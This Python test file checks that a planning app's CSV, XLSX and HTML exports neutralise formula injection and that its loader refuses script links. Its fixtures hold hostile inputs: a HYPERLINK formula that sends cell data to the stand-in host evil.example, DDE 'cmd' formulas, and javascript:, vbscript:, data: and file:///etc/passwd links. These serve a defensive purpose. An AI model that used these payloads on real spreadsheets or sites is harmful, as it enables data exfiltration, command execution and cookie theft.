"""Exports cannot attack their readers: no live formulas, no script links."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from avance.conftest import small_document
from avance.core.interchange import InvalidDocument
from avance.plans.actions import do_load_plan, do_publish_plan
from avance.plans.models import Node
from avance.progress.models import EvidenceLink
from avance.reports.formats import render

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Ver")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
]


@pytest.fixture
def planted(db):
    """Actions A to E titled with the five formulas; A's note is one too."""
    document = small_document()
    actions = [
        action
        for axis in document["nodes"]
        for commitment in axis["children"]
        for action in commitment["children"]
    ]
    for action, formula in zip(actions, FORMULAS, strict=True):
        action["title"] = formula
    actions[0]["note"] = FORMULAS[4]
    return do_publish_plan("test", do_load_plan("test", document))


def test_it_prefixes_formula_text_in_csv_so_spreadsheets_show_it(planted):
    rows = list(csv.reader(io.StringIO(render(planted, "csv").decode())))
    titles = [row[4] for row in rows[1:]]
    assert "'@SUM(A1:A2)" in titles and "'-2+3" in titles
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "@"))]
    assert "'-2+3" in titles and not [c for row in rows for c in row if c.startswith("-2")]


def test_it_writes_formula_text_in_xlsx_as_text(planted):
    book = openpyxl.load_workbook(io.BytesIO(render(planted, "xlsx")))
    kinds = {
        cell.value: cell.data_type
        for sheet in book
        for line in sheet.iter_rows()
        for cell in line
        if isinstance(cell.value, str) and cell.value.startswith("=")
    }
    assert kinds["=cmd|' /C calc'!A0"] == "s"
    assert set(kinds.values()) == {"s"}


def test_a_csv_export_imports_back_without_the_apostrophes(planted, tmp_path):
    from avance.core.documents.importer import import_file

    path = tmp_path / "plan.csv"
    path.write_bytes(render(planted, "csv"))
    document, _warnings = import_file(path)
    titles = [
        action["title"]
        for axis in document["nodes"]
        for commitment in axis["children"]
        for action in commitment["children"]
    ]
    assert titles == FORMULAS


@pytest.mark.parametrize(
    "link",
    [
        "javascript:alert(document.cookie)",
        " JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        "data:text/html;base64,PHNjcmlwdD4=",
        "vbscript:msgbox(1)",
        "file:///etc/passwd",
    ],
)
def test_the_loader_refuses_script_links_with_their_place(db, link):
    document = small_document()
    document["nodes"][0]["children"][0]["children"][1]["evidence"] = ["https://ok.example", link]
    with pytest.raises(InvalidDocument) as error:
        do_load_plan("test", document, source="plan.json")
    assert str(error.value).startswith(
        "plan.json: $.nodes[0].children[0].children[1].evidence[1]: "
    )
    assert "only http, https and mailto links are accepted as evidence" in str(error.value)


def test_words_that_name_a_document_stay_evidence(db):
    document = small_document()
    document["nodes"][0]["children"][0]["children"][1]["evidence"] = [
        "Acta de la sesión: 3 de marzo",
        "mailto:transparencia@example.org",
    ]
    plan = do_load_plan("test", document)
    assert EvidenceLink.objects.filter(node__plan=plan).count() == 2


def test_pages_and_reports_never_link_a_stored_script_link(planted, client):
    """Older data (written before the check) is shown as text, not as a link."""
    node = Node.objects.get(plan=planted, title="=cmd|' /C calc'!A0")
    EvidenceLink.objects.filter(node=node).update(url="javascript:alert(1)")
    page = client.get(f"/planes/{planted.slug}/elementos/{node.code.hex}/")
    assert page.status_code == 200
    assert "javascript:alert(1)" in page.text and 'href="javascript' not in page.text
    report = render(planted, "html").decode()
    assert "javascript:alert(1)" in report and 'href="javascript' not in report
